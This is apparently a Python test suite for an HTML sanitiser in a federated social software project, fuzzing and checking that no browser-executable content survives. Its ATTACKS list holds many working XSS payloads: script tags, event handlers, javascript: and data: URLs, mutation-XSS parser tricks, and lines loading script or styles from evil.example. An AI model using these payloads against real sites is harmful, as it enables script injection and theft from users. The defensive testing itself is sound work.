"""Nothing a browser could run passes the gate for HTML, however it is written."""

import json
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from bleach._vendor import html5lib
from hypothesis import example, given, settings
from hypothesis import strategies as st

from federation import sanitise
from federation.sanitise import actor_note_html, display_name, field_value_html, plain_text, post_html

CORPUS = Path(__file__).parents[2].parent / "shared" / "corpus"
GATES = {
    post_html: sanitise.POST_TAGS,
    actor_note_html: sanitise.NOTE_TAGS,
    field_value_html: sanitise.FIELD_TAGS,
}
ATTRIBUTES = {"class", "dir", "href", "lang", "rel", "start", "translate", "value"}


class Judge(HTMLParser):
    """Read clean HTML as a pedant: tags and attributes from the lists only, every tag closed in its turn."""

    def __init__(self, tags: set[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.tags, self.open = tags, []

    def handle_starttag(self, tag, attrs):
        check_element(tag, dict(attrs), self.tags)
        if tag != "br":
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_comment(self, data):
        raise AssertionError(f"comment {data!r}")

    handle_decl = handle_pi = unknown_decl = handle_comment


def check_element(tag, attributes, tags):
    assert tag in tags
    assert set(attributes) <= ATTRIBUTES
    assert set(attributes.get("class", "mention").split()) <= sanitise.CLASSES
    assert attributes.get("class") != ""
    if tag == "a":
        assert set(sanitise.LINK_REL.split()) <= set(attributes["rel"].split())
        assert urlsplit(attributes.get("href", "https:")).scheme in sanitise.SCHEMES
    else:
        assert "href" not in attributes


def assert_safe(html, tags):
    """Judge `html` twice: as it is written, and as an HTML5 parser other than nh3's reads it."""
    judge = Judge(tags)
    judge.feed(html)
    judge.close()
    assert judge.open == []
    for element in html5lib.parseFragment(html, namespaceHTMLElements=False).iter():
        if element.tag != "DOCUMENT_FRAGMENT":
            check_element(element.tag, element.attrib, tags)


TAGS = [
    "a", "abbr", "b", "br", "blockquote", "body", "button", "caption", "code", "dd", "div", "font",
    "foreignObject", "form", "h1", "h2", "head", "html", "i", "iframe", "img", "input", "li", "math",
    "mglyph", "mi", "ms", "mtext", "nobr", "noscript", "ol", "option", "p", "plaintext", "pre", "rt",
    "ruby", "script", "select", "span", "style", "svg", "table", "td", "template", "textarea", "th",
    "title", "tr", "ul", "xmp", "annotation-xml",
]  # fmt: skip
WORDS = [
    "", ' class="mention evil"', " rel=tag", " href=https://x.example/?a=1&b", ' href="jav&#x09;ascript:alert(1)"',
    " href=//x.example", " onload=alert(1)", ' style="a:b"', ' alt="<script>"', " src=x onerror=alert(1)", " lang=fr",
    ' title="--><img src=x onerror=alert(1)>"', ' encoding="text/html"', " id=x", " dir=rtl", " start=3",
]  # fmt: skip
TEXTS = [
    "a", " ", "\n", "\r", "\0", "\ud800", "&amp;", "&lt;script&gt;", "&#13;", "&#1;", "&nbsp;", "\xa0", "<", ">", '"',
    "&", "<!--", "-->", "<![CDATA[", "]]>", "<?", "javascript:", "é", "\u202e",
]  # fmt: skip
opening = st.builds(
    lambda tag, words, end: f"<{tag}{''.join(words)}{end}",
    st.sampled_from(TAGS),
    st.lists(st.sampled_from(WORDS), max_size=3),
    st.sampled_from([">", "/>", ""]),
)
closing = st.builds("</{}>".format, st.sampled_from(TAGS))
soup = st.lists(opening | closing | st.sampled_from(TEXTS) | st.text(max_size=5), max_size=30).map("".join)

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    '<img src="javascript:alert(1)">',
    '<img alt="<script>alert(1)</script>" src=x>',
    '<img alt="&lt;img src=x onerror=alert(1)&gt;">',
    "<img src='https://x.example/\"onerror=alert(1)//'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='javascript\x00:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='blob:https://x.example/1'>x</a>",
    "<a href='//evil.example/login'>x</a>",
    "<a href='/settings/delete'>x</a>",
    "<a href='https://x.example' onclick=alert(1) onmouseover='alert(1)'>x</a>",
    "<a href='https://x.example' style='position:fixed;inset:0' id=login>x</a>",
    "<a href='https://x.example' target=_top rel=opener ping=//evil.example>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<p onclick=alert(1) style=background:url(javascript:alert(1))>x</p>",
    "<p/onmouseover=alert(1)>x",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/><a xlink:href='javascript:alert(1)'><text>x",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><a title='</title><script>alert(1)</script>'>",
    "<xmp><p title='</xmp><script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template>",
    "<select><template><style><!--</style><img src=x onerror=alert(1)>-->",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1) type=image>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<plaintext><script>alert(1)</script>",
    "</p><script>alert(1)",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<span class='invisible modal-overlay' data-bind=x>x</span>",
    "<pre>\n\n<script>alert(1)</script></pre>",
    "<p>\ud83d<script>\udc00alert(1)</script>",
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("gate", GATES)
def test_no_attack_survives_a_gate(gate, attack):
    assert_safe(gate(attack), GATES[gate])


@pytest.mark.parametrize("gate", GATES)
@settings(deadline=None)
@given(html=soup | st.text())
@example(html="<table><a>1<tr><a>2</table>")
@example(html="<pre>" + "\n" * 40 + "x</pre>")
def test_any_soup_becomes_safe_and_stays_as_it_is(gate, html):
    clean = gate(html)

    assert_safe(clean, GATES[gate])
    assert gate(clean) == clean
    assert not sanitise._CONTROLS.search(clean)


@settings(deadline=None)
@given(html=soup)
def test_a_smaller_limit_still_ends_in_a_safe_fixed_point(html):
    gate = sanitise._Gate(sanitise.POST_TAGS, {"tag"}, 60)

    clean = gate.clean(html)

    assert_safe(clean, sanitise.POST_TAGS)
    assert len(clean) <= 60
    assert gate.clean(clean) == clean


@pytest.mark.parametrize(
    "html",
    [
        "<ul><li>" * 30_000,
        "<p>" + "".join(f"<b i={i}>" for i in range(3000)) + "<p>x" * 3000,
        "<p>" + "".join(f"<u i={i}>" for i in range(39)) + "<b><i><s><tt><em><big>" * 3 + "<p>x" * 9000,
        "<a>" * 1000 + "\xa0" * 20_000 + "x" * 100_000,
        "&" * 300_000,
        "<" * 300_000,
        "<a b='" + "x" * 200_000,
        "é<!--" * 50_000,
    ],
    ids=["nested lists", "formatting", "formatting under the limit", "links", "ampersands", "<", "one tag", "comments"],
)
def test_a_hostile_bulk_is_cut_rather_than_refused(html):
    clean = post_html(html)

    assert len(clean) <= sanitise.MAX_POST_CHARS
    assert clean.count("<") <= sanitise.MAX_TAGS
    assert post_html(clean) == clean


@settings(deadline=None)
@given(html=soup | st.text())
def test_text_of_any_soup_holds_no_control_and_no_override(html):
    text = plain_text(html)

    assert not sanitise._CONTROLS.search(text)
    assert not sanitise._BIDI_OVERRIDES.search(text)
    assert text == text.strip()
    assert "\n\n\n" not in text


@settings(deadline=None)
@given(name=soup | st.text(), max_chars=st.integers(1, 40))
def test_any_name_fits_in_its_line(name, max_chars):
    shown = display_name(name, max_chars=max_chars)

    assert len(shown) <= max_chars
    assert shown == " ".join(shown.split())
    assert sanitise._UNSEEN.sub(r"\1", shown) == shown


def test_a_cut_leaves_no_half_entity():
    html = "x" * (sanitise.MAX_POST_CHARS - 3) + "&eacute;"

    assert post_html(html) == "x" * (sanitise.MAX_POST_CHARS - 3)


def test_html_that_never_settles_is_shown_as_text(monkeypatch):
    monkeypatch.setattr(sanitise, "MAX_ROUNDS", 0)

    assert post_html("<p>a &amp; <b>b</b>\xa0&lt;</p>") == "a &amp; b&nbsp;&lt;"


@pytest.mark.skipif(not CORPUS.is_dir(), reason=f"no corpus of real documents at {CORPUS}")
def test_real_documents_keep_their_words():
    seen = 0
    for path in sorted(CORPUS.glob("*/*.json")):
        for html in html_values(json.loads(path.read_bytes())):
            clean = post_html(html)
            assert_safe(clean, sanitise.POST_TAGS)
            assert post_html(clean) == clean
            if "<img" not in html and len(html) < sanitise.MAX_POST_CHARS:
                assert plain_text(clean).split() == plain_text(html).split(), path
            seen += 1
    assert seen > 50


def html_values(document):
    if isinstance(document, dict):
        for key, value in document.items():
            if key in {"content", "summary"} and isinstance(value, str):
                yield value
            else:
                yield from html_values(value)
    elif isinstance(document, list):
        for item in document:
            yield from html_values(item)
